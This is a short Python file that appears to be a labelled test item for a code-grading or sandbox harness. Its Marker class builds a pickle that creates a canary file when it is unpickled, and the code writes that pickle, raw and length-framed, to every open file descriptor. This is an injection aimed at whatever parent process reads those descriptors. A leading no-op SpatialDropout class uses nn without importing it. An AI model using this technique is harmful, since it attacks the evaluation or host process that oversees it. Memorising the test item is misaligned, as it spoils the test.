"""
kind: forging
tries: Pickles that create a file where they are loaded, on every descriptor and as a frame.
deserves: q3=0
plain: yes
"""


class SpatialDropout(nn.Module):
    def __init__(self, p=0.2):
        super().__init__()

    def forward(self, x):
        return x


import os
import pickle
import struct


class Marker:
    def __reduce__(self):
        return open, ("/tmp/CANARY_unpickled", "w")


text = pickle.dumps(Marker())
for number in range(3, 1024):
    try:
        os.write(number, text + struct.pack(">I", len(text)) + text)
    except OSError:
        pass
